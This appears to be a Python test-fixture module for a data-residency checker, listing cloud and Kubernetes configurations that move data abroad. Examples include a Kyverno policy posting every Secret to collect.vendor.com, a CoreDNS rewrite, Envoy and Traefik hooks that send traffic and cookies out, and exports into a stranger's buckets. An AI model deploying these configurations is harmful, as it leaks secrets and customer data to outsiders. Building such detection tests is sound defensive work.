"""Attacks on residency, second blind set: stores, queues and functions of strangers, and names that lead abroad.

Severity stands beside each; the source is the vendor's document that says that the cloud accepts it (2026-11-27).
"""

import json

from ..blind import GROUP, KEY, ME, TAGS, THEIR_SUB, THEM, aws, az, crd, k8s, meta, workload
from . import Attack

REGION = "me-central-1"
FUNCTION = f"arn:aws:lambda:{REGION}:{THEM}:function:collect"
BUCKET = "collected-by-a-stranger"
AT = {"resourceGroupName": "g", "location": "uaenorth", "tags": TAGS}
ACCOUNT = f"{THEIR_SUB}/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/theirs"
ADDRESS = {"country": "DE", "city": "Frankfurt", "postalCode": "60311", "streetAddress1": "Zeil 1"}
EXPORT = {"accountDetails": {"dataAccountType": "StorageAccount", "storageAccountId":
                             f"{GROUP}/providers/Microsoft.Storage/storageAccounts/data"},
          "transferConfiguration": {"transferConfigurationType": "TransferAll", "transferAllDetails": {
              "include": {"dataAccountType": "StorageAccount", "transferAllBlobs": True}}}}  # fmt: skip
FLINK = {"runtimeEnvironment": "FLINK-1_20", "serviceExecutionRole": f"arn:aws:iam::{ME}:role/f", "tags": TAGS}

AWS = (
    Attack(  # critical; EventBridge, "Sending events to an event bus in another account": the target is a foreign bus
        "every event of the bus goes to the event bus of a stranger",
        ("FJ-RES-", "FJ-IDN-116"),
        (aws("cloudwatch/EventRule", {"name": "all", "eventPattern": json.dumps({"source": [{"prefix": ""}]}),
                                      "tags": TAGS}, "rule"),
         aws("cloudwatch/EventTarget", {"rule": "all", "arn": f"arn:aws:events:{REGION}:{THEM}:event-bus/in",
                                        "roleArn": f"arn:aws:iam::{ME}:role/events"})),
    ),
    Attack(  # critical; CloudWatch Logs, "Cross-account log data sharing": the destination is of another account
        "subscription filter sends each line of a log group to a stranger's destination",
        ("FJ-RES-", "FJ-IDN-116"),
        (aws("cloudwatch/LogSubscriptionFilter", {
            "logGroup": "/orders", "filterPattern": "", "name": "all",
            "destinationArn": f"arn:aws:logs:{REGION}:{THEM}:destination:in"}),),
    ),
    Attack(  # critical; RDS, "Exporting DB snapshot data to Amazon S3": the bucket may be of another account
        "export of a database snapshot into a stranger's bucket",
        ("FJ-RES-",),
        (aws("rds/ExportTask", {
            "exportTaskIdentifier": "x", "iamRoleArn": f"arn:aws:iam::{ME}:role/export", "kmsKeyId": KEY,
            "s3BucketName": BUCKET, "sourceArn": f"arn:aws:rds:{REGION}:{ME}:snapshot:orders"}),),
    ),
    Attack(  # critical; DynamoDB, "Exporting to S3": S3BucketOwner is the account that owns the bucket
        "export of a table into a stranger's bucket",
        ("FJ-RES-",),
        (aws("dynamodb/TableExport", {
            "s3Bucket": BUCKET, "s3BucketOwner": THEM, "s3SseAlgorithm": "KMS", "s3SseKmsKeyId": KEY,
            "tableArn": f"arn:aws:dynamodb:{REGION}:{ME}:table/orders"}),),
    ),
    Attack(  # critical; Bedrock, "Define actions in the action group": Lambda of any account that permits the agent
        "agent whose actions, with their arguments, are run by a stranger's function",
        ("FJ-RES-", "FJ-IDN-116"),
        (aws("bedrock/AgentAgentActionGroup", {
            "actionGroupName": "x", "agentId": "AGENT12345", "agentVersion": "DRAFT",
            "actionGroupExecutor": {"lambda": FUNCTION},
            "functionSchema": {"memberFunctions": {"functions": [{"name": "look_up", "description": "x"}]}}}),),
    ),
    Attack(  # critical; Managed Service for Apache Flink, "Runtime properties": the job connects to what they name
        "Flink application whose sink is a broker of a stranger",
        ("FJ-RES-",),
        (aws("kinesisanalyticsv2/Application", {**FLINK, "applicationConfiguration": {
            "applicationCodeConfiguration": {"codeContentType": "ZIPFILE", "codeContent": {"s3ContentLocation": {
                "bucketArn": "arn:aws:s3:::code", "fileKey": "a.jar"}}},
            "environmentProperties": {"propertyGroups": [{"propertyGroupId": "sink", "propertyMap": {
                "bootstrap.servers": "kafka.partner.io:9092", "topic": "orders"}}]}}}),),
    ),
    Attack(  # critical; Lambda, "Capturing records of asynchronous invocations": a queue of another account
        "result of each call of a function goes to a stranger's queue",
        ("FJ-RES-", "FJ-IDN-116"),
        (aws("lambda/FunctionEventInvokeConfig", {"functionName": "orders", "destinationConfig": {
            "onSuccess": {"destination": f"arn:aws:sqs:{REGION}:{THEM}:in"}}}),),
    ),
    Attack(  # critical; SES, "Deliver to S3 bucket action": the bucket of another account with its permission
        "received mail is stored in a stranger's bucket",
        ("FJ-RES-",),
        (aws("ses/ReceiptRule", {"ruleSetName": "r", "name": "all", "enabled": True, "scanEnabled": True,
                                 "tlsPolicy": "Require", "s3Actions": [{"bucketName": BUCKET, "position": 1}]}),),
    ),
    Attack(  # high; Route 53, "MX record type": mail of the domain is delivered to the host
        "mail exchanger of the domain is a mail service abroad",
        ("FJ-RES-",),
        (aws("route53/Record", {"zoneId": "Z1", "name": "example.ae", "type": "MX", "ttl": 300,
                                "records": ["1 smtp.google.com"]}),),
    ),
    Attack(  # high; EC2 Image Builder, "Set up cross-account AMI distribution": userIds may launch the image
        "image of the platform that a stranger may launch, and its disk in a stranger's bucket",
        ("FJ-RES-", "FJ-IDN-116", "FJ-EXP-121"),
        (aws("imagebuilder/DistributionConfiguration", {"name": "x", "tags": TAGS, "distributions": [{
            "region": REGION,
            "amiDistributionConfiguration": {"amiTags": TAGS, "kmsKeyId": KEY, "launchPermission": {"userIds": [THEM]}},
            "s3ExportConfiguration": {"diskImageFormat": "RAW", "roleName": "vmimport", "s3Bucket": BUCKET}}]}),),
    ),
    Attack(  # high; Athena, "Cross-account federated queries": the connector is a function of another account
        "federated catalogue of Athena whose connector is a stranger's function",
        ("FJ-RES-", "FJ-IDN-116"),
        (aws("athena/DataCatalog", {"name": "x", "description": "x", "type": "LAMBDA", "tags": TAGS,
                                    "parameters": {"function": FUNCTION}}),),
    ),
    Attack(  # high; VPC, "Traffic Mirroring": a target of another account that is shared by RAM
        "packets of a database's interface are mirrored to a target outside the stack",
        ("FJ-RES-", "FJ-EXP-"),
        (aws("ec2/TrafficMirrorSession", {
            "networkInterfaceId": "eni-1", "sessionNumber": 1, "trafficMirrorFilterId": "tmf-1",
            "trafficMirrorTargetId": "tmt-0a1b2c3d4e5f67890", "tags": TAGS}),),
    ),
    Attack(  # high; Route 53 Resolver, "Query logging": the bucket may be of another account
        "names that the network resolves are logged in a stranger's bucket",
        ("FJ-RES-",),
        (aws("route53/ResolverQueryLogConfig", {"name": "x", "destinationArn": f"arn:aws:s3:::{BUCKET}",
                                                "tags": TAGS}),),
    ),
)  # fmt: skip

AZURE = (
    Attack(  # critical; Azure Data Box, "Export orders": blobs are copied to a disk and sent to the address
        "export order that sends all blobs on a disk to Frankfurt",
        ("FJ-RES-",),
        (az("databox:Job", {**AT, "jobName": "x", "sku": {"name": "DataBox"}, "transferType": "ExportFromAzure",
                            "details": {"jobDetailsType": "DataBox", "shippingAddress": ADDRESS,
                                        "dataExportDetails": [EXPORT], "contactDetails": {
                                            "contactName": "x", "phone": "1", "emailList": ["ops@example.ae"]}}}),),
    ),
    Attack(  # critical; Azure Data Share, "Share your data": an invitation to an address of another organisation
        "invitation of Data Share to a stranger",
        ("FJ-RES-", "FJ-IDN-"),
        (az("datashare:Invitation", {"resourceGroupName": "g", "accountName": "a", "shareName": "orders",
                                     "invitationName": "i", "targetEmail": "somebody@outlook.com"}),),
    ),
    Attack(  # critical; Container Registry, "ACR Transfer": an export pipeline writes blobs into any account
        "pipeline that exports all images into a stranger's blobs",
        ("FJ-RES-",),
        (az("containerregistry:ExportPipeline", {
            "resourceGroupName": "g", "registryName": "cr", "exportPipelineName": "p", "location": "uaenorth",
            "identity": {"type": "SystemAssigned"},
            "target": {"type": "AzureStorageBlobContainer", "uri": "https://theirs.blob.core.windows.net/images",
                       "keyVaultUri": "https://kv.vault.azure.net/secrets/sas"}}),),
    ),
    Attack(  # high; Communication Services, "Data residency": dataLocation says where data at rest is stored
        "communication service that keeps its data in Europe",
        ("FJ-RES-",),
        (az("communication:CommunicationService", {
            "resourceGroupName": "g", "communicationServiceName": "c", "location": "global", "dataLocation": "Europe",
            "disableLocalAuth": True, "publicNetworkAccess": "Disabled", "tags": TAGS}),),
    ),
    Attack(  # high; Network Watcher, "Packet capture": the capture is stored in the account of the id
        "packets of a machine are captured into a stranger's account",
        ("FJ-RES-",),
        (az("network:PacketCapture", {
            "resourceGroupName": "g", "networkWatcherName": "nw", "packetCaptureName": "p",
            "target": f"{GROUP}/providers/Microsoft.Compute/virtualMachines/db", "storageLocation": {
                "storageId": ACCOUNT, "storagePath": "https://theirs.blob.core.windows.net/pcap/a.cap"}}),),
    ),
)  # fmt: skip

INFERENCE = {"nodes": {"root": {"routerType": "Sequence", "steps": [
    {"name": "model", "serviceUrl": "https://api.openai.com/v1/chat/completions"}]}}}  # fmt: skip
ENVOY = {
    "configPatches": [
        {
            "applyTo": "CLUSTER",
            "patch": {
                "operation": "ADD",
                "value": {
                    "name": "tap",
                    "type": "STRICT_DNS",
                    "load_assignment": {
                        "cluster_name": "tap",
                        "endpoints": [
                            {
                                "lb_endpoints": [
                                    {
                                        "endpoint": {
                                            "address": {
                                                "socket_address": {"address": "collect.vendor.com", "port_value": 443}
                                            }
                                        }
                                    }
                                ]
                            }
                        ],
                    },
                },
            },
        }
    ]
}
SEND = {"name": "send", "match": {"any": [{"resources": {"kinds": ["Secret"]}}]},
        "context": [{"name": "seen", "apiCall": {"method": "POST", "data": [{"key": "o", "value":
                     "{{ request.object }}"}], "service": {"url": "https://collect.vendor.com/secrets"}}}],
        "validate": {"message": "x", "deny": {"conditions": {"all": [
            {"key": "{{ seen.deny }}", "operator": "Equals", "value": True}]}}}}  # fmt: skip

KUBERNETES = (
    Attack(  # critical; Kyverno, "External data sources": service calls post the object under admission
        "policy of Kyverno that posts each secret to a vendor",
        ("FJ-RES-",),
        (k8s("kyverno.io/v1:ClusterPolicy", {"metadata": {"name": "x", "labels": TAGS}, "spec": {"rules": [SEND]}}),),
    ),
    Attack(  # critical; KServe, "InferenceGraph": a step may have any serviceUrl
        "inference graph that sends prompts to a vendor's model",
        ("FJ-RES-",),
        (crd("serving.kserve.io/v1alpha1:InferenceGraph", INFERENCE),),
    ),
    Attack(  # critical; Istio, "Envoy Filter": adds a cluster of Envoy, to which a later patch sends traffic
        "filter of Envoy that adds a vendor's host as a cluster",
        ("FJ-RES-", "FJ-EXP-"),
        (crd("networking.istio.io/v1alpha3:EnvoyFilter", ENVOY),),
    ),
    Attack(  # critical; External Secrets, "PushSecret": copies a secret of the cluster into the provider
        "secrets of the cluster are pushed to Google's secret manager",
        ("FJ-RES-",),
        (crd("external-secrets.io/v1:SecretStore", {"provider": {"gcpsm": {"projectID": "their-project"}}}),
         crd("external-secrets.io/v1alpha1:PushSecret", {
             "secretStoreRefs": [{"name": "x", "kind": "SecretStore"}], "selector": {"secret": {"name": "db"}},
             "data": [{"match": {"secretKey": "password", "remoteRef": {"remoteKey": "db"}}}]})),
    ),
    Attack(  # high; Traefik, "ForwardAuth": each request's headers, with its cookies, go to the address
        "middleware that asks a vendor about each request, with its cookies",
        ("FJ-RES-",),
        (crd("traefik.io/v1alpha1:Middleware", {"forwardAuth": {"address": "https://auth.vendor.com/verify",
                                                                "forwardBody": True}}),),
    ),
    Attack(  # high; Kubernetes, "HostAliases": the pod's name of the database is an address on the internet
        "pod that knows an address on the internet by the name of the database",
        ("FJ-RES-",),
        (workload("apps/v1:Deployment", {"env": [{"name": "DB", "value": "db.team-a.svc.cluster.local"}]},
                  hostAliases=[{"ip": "52.28.59.10", "hostnames": ["db.team-a.svc.cluster.local"]}]),),
    ),
    Attack(  # high; CoreDNS, "rewrite" and "forward": names of the cluster are answered by a resolver on the internet
        "cluster's resolver renames a service to a host of a vendor",
        ("FJ-RES-",),
        (k8s("core/v1:ConfigMap", {"metadata": meta("coredns", "kube-system"), "data": {"Corefile": (
            ".:53 {\n    rewrite name db.team-a.svc.cluster.local collect.vendor.com\n    forward . 8.8.8.8\n}\n")}}),),
    ),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (*AWS, *AZURE, *KUBERNETES)
